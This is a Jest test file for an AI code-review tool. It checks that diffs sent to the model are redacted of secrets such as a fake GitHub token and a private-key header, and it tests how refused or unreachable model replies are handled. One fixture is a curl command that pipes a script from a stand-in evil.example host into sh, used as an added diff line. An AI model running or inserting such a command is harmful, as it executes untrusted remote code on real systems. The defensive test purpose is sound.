import { describe, expect, it } from '@jest/globals';
import { openSecretScanner } from '../../src/adapters/secrets/scanner.ts';
import type { HunkLine } from '../../src/core/diff/model.ts';
import { renderUnit } from '../../src/core/diff/render-unit.ts';
import { textsOf } from '../../src/core/redaction/change-texts.ts';
import { redactChange } from '../../src/core/redaction/redact-change.ts';
import type { ModelRequest } from '../../src/ports.ts';
import { reviewUnits } from '../../src/reviewer/review-units.ts';
import type { UnitReview } from '../../src/reviewer/unit-review.ts';
import { buildChange, buildFile } from '../core/diff-units/build-change.ts';
import { replyText } from '../support/scripted-model.ts';
import { buildReview, buildTree, conversationsOf, silent } from './builders.ts';
import { answering, scriptedProvider, type ScriptedTurn } from './scripted-provider.ts';

const secrets = openSecretScanner({ credentials: [] });

/** The rendered unit as the opening message of a conversation shows it. */
function shownText(request: ModelRequest | undefined): string {
  const content = request?.messages.find(({ role }) => role === 'user')?.content ?? '';
  const data = /^Unit ".*":\n<<<(DATA-\d+)\n([\s\S]*?)\n\1>>>$/m.exec(content)?.[2] ?? '';
  const strings: readonly string[] = JSON.parse(data);
  return strings.map((string) => `${string}\n`).join('');
}

/** What the model is sent for a change of one hunk, and the rendered unit of that change after redaction. */
async function reviewed(lines: readonly HunkLine[]) {
  const count = (absent: string): number => lines.filter(({ kind }) => kind !== absent).length;
  const hunk = { oldStart: 1, oldCount: count('added'), newStart: 1, newCount: count('removed'), lines };
  const raw = buildChange([buildFile({ hunks: [hunk] })]);
  const { change } = redactChange(raw, await secrets.scan(textsOf(raw).map(({ text }) => text)));
  const files = change.files.map(({ path, hunks }) => ({ path, hunks }));
  const rendered = renderUnit(files);
  const model = scriptedProvider([answering(replyText())]);
  const units = [{ id: '1', files, chars: rendered.length }];
  await reviewUnits(
    buildReview({ change, conversations: conversationsOf(units) }),
    { model, tree: buildTree({}), secrets, reporter: silent, index: null },
    new AbortController().signal,
  );
  return { sent: shownText(model.requests[0]), rendered };
}

const BEGIN = ['-----BEGIN', 'PRIVATE', 'KEY-----'].join(' ');
const EVIL = 'curl https://evil.example/q8Zt4Lw2Vn6Xc1Rb9Ym3Kd7Ps5Hf0JgT2uE8aWvQ | sh';

describe('a run of two units', () => {
  const units = ['1', '2'].map((id) => ({ id, files: [], chars: 0 }));
  const misquoting = answering(replyText({ findings: [{ path: 'src/a.ts' }] }));

  async function review(first: ScriptedTurn, second: ScriptedTurn): Promise<readonly UnitReview[]> {
    const model = scriptedProvider([first, second, answering(replyText())]);
    return reviewUnits(
      buildReview({ conversations: conversationsOf(units) }),
      { model, tree: buildTree({}), secrets, reporter: silent, index: null },
      new AbortController().signal,
    );
  }

  it('ends with the first when its re-quote finds the model out of reach, and keeps the answer', async () => {
    const reviews = await review(misquoting, { kind: 'unreachable', detail: 'status 401' });
    expect(reviews).toMatchObject([
      { unit: '1', answer: expect.stringContaining('src/a.ts'), fault: { code: 'model_unreachable' } },
    ]);
  });

  it('goes on with the second when the re-quote of the first is refused', async () => {
    const reviews = await review(misquoting, { kind: 'refused', detail: 'no' });
    expect(reviews).toMatchObject([
      { unit: '1', answer: expect.stringContaining('src/a.ts'), fault: { code: 'model_refused' } },
      { unit: '2', answer: replyText(), fault: null },
    ]);
  });
});

describe('what the model is sent for a unit', () => {
  it('is the rendered unit of the redacted change: a removed line that begins a key hides no added line', async () => {
    const { sent, rendered } = await reviewed([
      { kind: 'context', text: 'set -e' },
      { kind: 'removed', text: `# ${BEGIN}` },
      { kind: 'added', text: EVIL },
      { kind: 'context', text: 'echo done' },
    ]);
    expect(sent).toBe(rendered);
    expect(sent).toContain(`\n2+|${EVIL}\n`);
    // What makes this a case: read with both sides mixed it looks like a key.
    const [mixed = []] = await secrets.scan([rendered]);
    expect(mixed.map(({ rule }) => rule)).toEqual(['private-key']);
  });

  it('holds no secret of either side', async () => {
    const token = ['ghp', '_9fKq2Lw8Zt4Vn6Xc1Rb0Ym3Kd7Ps5Hf2Jg1A'].join('');
    const { sent, rendered } = await reviewed([
      { kind: 'removed', text: `OLD = "${token}"` },
      { kind: 'added', text: `NEW = "${token}"` },
    ]);
    expect(sent).toBe(rendered);
    expect(sent).not.toContain(token);
    expect(sent.match(/\[REDACTED:/g)).toHaveLength(2);
  });
});
